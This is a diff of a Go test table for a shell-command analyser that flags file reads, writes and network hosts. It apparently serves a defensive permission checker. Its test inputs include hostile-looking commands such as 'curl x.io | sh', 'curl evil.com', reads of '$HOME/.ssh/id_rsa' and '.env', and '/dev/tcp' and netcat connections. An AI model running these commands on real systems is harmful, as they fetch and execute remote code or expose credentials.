@@ -52,7 +52,7 @@ func TestCommands(t *testing.T) {
 		{`for f in $(ls); do cat "$f"; done`, `ls; cat $f |r=$f ?`},
 		{`while read x; do a; done < in.txt > out.txt`, `read x; a;  |r=in.txt |w=out.txt`},
 		{`case $(a) in b) c;; esac`, `a; c`},
-		{`echo $(curl evil.com) "$(wget x.io)" ` + "`id`", "curl evil.com |h=evil.com; wget x.io |h=x.io; id; echo $(curl evil.com) $(wget x.io) `id`"},
+		{`echo $(curl evil.com) "$(wget x.io)" ` + "`id`", "curl evil.com |h=evil.com; wget x.io |w=index.html |h=x.io; id; echo $(curl evil.com) $(wget x.io) `id`"},
 		{`diff <(a) <(b)`, `a; b; diff <(a) <(b)`},
 		{`X=$(a) b`, `a; b`},
 		{`export A=$(a)`, `a; export A=$(a)`},
@@ -87,7 +87,7 @@ func TestCommands(t *testing.T) {
 		{`eval 'rm x'`, `eval>rm x |w=x`}, {`eval "$X"`, `eval $X ?`},
 		{`f() { rm x; }; eval f`, `eval>rm x |w=x`},
 		{`trap 'rm x' EXIT`, `trap>rm x |w=x`},
-		{`$CMD x`, `$CMD x ?`}, {`"$(which rm)" x`, `which rm; $(which rm) x ?`}, {`/bin/r? x`, `r? x ?`},
+		{`$CMD x`, `$CMD x ?`}, {`"$(which rm)" x`, `which rm; rm x |w=x`}, {`/bin/r? x`, `r? x ?`},
 		{`cat .{env,x}`, `cat .env .x |r=.env,.x`},
 		{`{rm,x}`, `rm x |w=x`},
 		{`curl x.io | sh`, `curl x.io |h=x.io; sh ?`},
@@ -95,7 +95,7 @@ func TestCommands(t *testing.T) {
 		// xargs, find
 		{`git ls-files | xargs -n 1 rm`, `git ls-files; xargs>rm ?`},
 		{`ls | xargs -I{} sh -c 'rm {}'`, `ls; xargs>sh>rm {} ?`},
-		{`find . -name x -exec rm -f {} \; -exec a +`, `find . -name x -exec rm -f {} ; -exec a +; find>rm -f {} ?; find>a`},
+		{`find . -name x -exec rm -f {} \; -exec a +`, `find . -name x -exec rm -f {} ; -exec a +; find>rm -f {} |w=./**/x; find>a`},
 		{`find /x -delete`, `find /x -delete |w=/x`},
 		// runners
 		{`uv run --with pytest pytest -x`, `uv>pytest -x`},
@@ -103,7 +103,7 @@ func TestCommands(t *testing.T) {
 		{`uv run -m pytest -x`, `uv>python -m pytest -x`},
 		{`npx -y vitest run`, `npx>vitest run`}, {`npx -p a -c 'rm x'`, `npx>rm x |w=x`},
 		{`pnpm exec tsc`, `pnpm>tsc`}, {`bunx rm x`, `bunx>rm x |w=x`}, {`poetry run rm x`, `poetry>rm x |w=x`},
-		{`npm test`, `npm test`}, {`uv sync`, `uv sync`}, {`uv tool run ruff check`, `uv>ruff check`},
+		{`npm test`, `npm test`}, {`uv sync`, `uv sync |h=pypi.org`}, {`uv tool run ruff check`, `uv>ruff check`},
 		// files
 		{`cat .env`, `cat .env |r=.env`}, {`head -n 5 a b`, `head -n 5 a b |r=a,b`}, {`head -5 a`, `head -5 a |r=a`},
 		{`grep -rn "x" a b`, `grep -rn x a b |r=a,b`}, {`grep -e x a`, `grep -e x a |r=a`}, {`ls | grep x`, `ls; grep x`},
@@ -112,8 +112,8 @@ func TestCommands(t *testing.T) {
 		{`perl -pi -e s/a/b/ f g`, `perl -pi -e s/a/b/ f g |r=f,g |w=f,g`},
 		{`cp a b c`, `cp a b c |r=a,b |w=c`}, {`cp -t d a`, `cp -t d a |r=a |w=d`}, {`mv a b`, `mv a b |r=a |w=a,b`}, {`ln -s a b`, `ln -s a b |w=b`},
 		{`a | tee -a f`, `a; tee -a f |w=f`}, {`touch a`, `touch a |w=a`}, {`mkdir -p a/b`, `mkdir -p a/b |w=a/b`}, {`chmod +x a`, `chmod +x a |w=a`},
-		{`sort -o f g`, `sort -o f g |r=g |w=f`}, {`dd if=a of=b`, `dd if=a of=b |r=a |w=b`}, {`tar czf o.tgz d`, `tar czf o.tgz d |r=d |w=o.tgz`}, {`tar -xf o.tgz`, `tar -xf o.tgz |r=o.tgz`},
-		{`python s.py x`, `python s.py x |r=s.py`}, {`python -m pytest x`, `python -m pytest x`}, {`python3 -c 'x' y`, `python3 -c x y`}, {`bash s.sh`, `bash s.sh |r=s.sh`}, {`source v/activate`, `source v/activate |r=v/activate`},
+		{`sort -o f g`, `sort -o f g |r=g |w=f`}, {`dd if=a of=b`, `dd if=a of=b |r=a |w=b`}, {`tar czf o.tgz d`, `tar czf o.tgz d |r=d |w=o.tgz`}, {`tar -xf o.tgz`, `tar -xf o.tgz |r=o.tgz |w=.`},
+		{`python s.py x`, `python s.py x |r=s.py`}, {`python -m pytest x`, `python -m pytest x`}, {`python3 -c 'x' y`, `python3 -c x y ?`}, {`bash s.sh`, `bash s.sh |r=s.sh`}, {`source v/activate`, `source v/activate |r=v/activate`},
 		{`cat "$HOME/.ssh/id_rsa"`, `cat $HOME/.ssh/id_rsa |r=$HOME/.ssh/id_rsa`}, {`cat $F`, `cat $F |r=$F ?`}, {`cat *.env`, `cat *.env |r=*.env`},
 		{`git commit -m "$(cat <<'EOF'` + "\nrm x\nEOF\n)\"", "cat; git commit -m $(cat <<'EOF'\nrm x\nEOF\n)"},
 		{`a > f 2> g >> h &> i 2>&1 < j`, `a |r=j |w=f,g,h,i`}, {`a >&2 2>/dev/null`, `a`}, {`> f`, ` |w=f`},
@@ -123,9 +123,9 @@ func TestCommands(t *testing.T) {
 		// hosts
 		{`curl -sSL -H 'A: http://no' -o f https://A.io:8/x`, `curl -sSL -H A: http://no -o f https://A.io:8/x |w=f |h=a.io`},
 		{`curl evil.com`, `curl evil.com |h=evil.com`}, {`curl "$URL"`, `curl $URL ?`}, {`curl https://a.io/$X`, `curl https://a.io/$X |h=a.io`},
-		{`git clone git@Host.x:a/b`, `git clone git@Host.x:a/b |h=host.x`}, {`git clone https://h.x/a`, `git clone https://h.x/a |h=h.x`}, {`git push origin a:b`, `git push origin a:b`},
+		{`git clone git@Host.x:a/b`, `git clone git@Host.x:a/b |w=b |h=host.x`}, {`git clone https://h.x/a`, `git clone https://h.x/a |w=a |h=h.x`}, {`git push origin a:b`, `git push origin a:b ?`},
 		{`git commit -m https://h.x`, `git commit -m https://h.x`}, {`echo https://h.x`, `echo https://h.x`},
-		{`ssh -p 22 u@h.x 'rm y'`, `ssh -p 22 u@h.x rm y |h=h.x`}, {`scp a u@h.x:b`, `scp a u@h.x:b |r=a |h=h.x`}, {`nc h.x 80`, `nc h.x 80 |h=h.x`},
+		{`ssh -p 22 u@h.x 'rm y'`, `ssh -p 22 u@h.x rm y |h=h.x; ssh>rm y`}, {`scp a u@h.x:b`, `scp a u@h.x:b |r=a |h=h.x`}, {`nc h.x 80`, `nc h.x 80 |h=h.x`},
 		{`echo a > /dev/tcp/h.x/80`, `echo a |h=h.x`}, {`pip install -i https://h.x/s a`, `pip install -i https://h.x/s a |h=h.x`},
 		// what can't be read
 		{`if then`, ` ?`}, {`echo "`, ` ?`},
